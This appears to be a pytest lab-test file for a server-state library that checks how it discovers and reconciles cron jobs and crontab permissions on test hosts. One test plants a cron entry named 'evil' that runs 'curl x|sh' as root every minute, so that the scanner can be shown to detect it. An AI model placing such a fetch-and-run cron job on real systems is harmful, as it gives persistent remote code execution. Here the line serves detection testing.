"""Jobs of cron on a real host."""

from collections.abc import Callable

import pytest

from omlib.model.estate import ServerState
from omlib.model.status import Status

from .agreement import agreed, made
from .conftest import Hosts

pytestmark = pytest.mark.lab
Change = Callable[[str, str, str], None]
BACKUP = "0 2 * * * root /usr/local/sbin/backup  --all"


def test_an_untouched_host_has_no_job_of_its_own(hosts: Hosts) -> None:
    seen = hosts.look("srv2", ServerState(full=frozenset({"cron"})))
    assert (seen.items("cron"), seen.reason("cron")) == ({}, None)


def test_jobs_by_hand_are_found_wherever_they_lie(hosts: Hosts, changing: Change) -> None:
    changing(
        "srv1",
        "printf '# mine\\n*  * * * *  root   curl  x|sh\\n' > /etc/cron.d/evil;"
        "echo '@reboot ops true' > /etc/cron.d/old.bak;"
        "echo '5 4 * * * /bin/true' | crontab -u ops -;"
        "printf '#!/bin/sh\\n' > /etc/cron.hourly/x; chmod 755 /etc/cron.hourly/x;"
        "cp /etc/crontab /root; echo '1 1 * * * root true' >> /etc/crontab",
        "rm /etc/cron.d/evil /etc/cron.d/old.bak /etc/cron.hourly/x;"
        "crontab -r -u ops; cp /root/crontab /etc/crontab",
    )
    found = hosts.look("srv1", ServerState(full=frozenset({"cron"}))).items("cron")
    table = found.pop("/etc/crontab")["jobs"]
    assert table[-1] == "1 1 * * * root true"
    assert found == {
        "evil": {"present": True, "jobs": ("* * * * * root curl  x|sh",)},
        "old.bak": {"present": True, "jobs": ()},  # a name that cron passes over
        "/var/spool/cron/crontabs/ops": {"present": True, "jobs": ("5 4 * * * ops /bin/true",)},
        "/etc/cron.hourly/x": {"present": True, "jobs": ("/etc/cron.hourly/x",)},
    }


def test_tables_are_made_and_taken_away(hosts: Hosts, changing: Change) -> None:
    spool = "/var/spool/cron/crontabs/ops"
    changing(
        "srv1",
        "printf 'MAILTO = ops\\n0  2 * * *  root /usr/local/sbin/backup  --all\\n' "
        "> /etc/cron.d/same;"
        "echo '0 3 * * * root /usr/local/sbin/backup' > /etc/cron.d/other;"
        f"echo '{BACKUP}' > /etc/cron.d/open; chmod 666 /etc/cron.d/open;"
        "touch /etc/cron.d/gone",
        f"rm -f /etc/cron.d/same /etc/cron.d/other /etc/cron.d/open /etc/cron.d/gone {spool}",
    )
    state = ServerState(
        items={
            "cron": {
                "same": {"present": True, "jobs": ("MAILTO=ops", BACKUP)},
                "other": {"present": True, "jobs": (BACKUP,)},
                "open": {
                    "present": True,
                    "jobs": (BACKUP,),
                },  # cron takes nothing anybody may write
                "gone": {"present": False},
                "never": {"present": False},
                spool: {"present": True, "jobs": ("PATH=/bin", "@daily ops true")},
            }
        }
    )
    assert agreed(hosts, "srv1", state) == {
        "cron/same": Status.IN_SYNC,
        "cron/other": Status.DIVERGED,
        "cron/open": Status.DIVERGED,
        "cron/gone": Status.DIVERGED,
        "cron/never": Status.IN_SYNC,
        f"cron/{spool}": Status.MISSING,
    }
    made(hosts, "srv1", state)
    assert hosts.run("srv1", "crontab -l -u ops") == "PATH=/bin\n@daily true\n"
    assert hosts.run("srv1", "stat -c %U:%G:%a /etc/cron.d/open " + spool).split() == [
        "root:root:644",
        "ops:crontab:600",
    ]
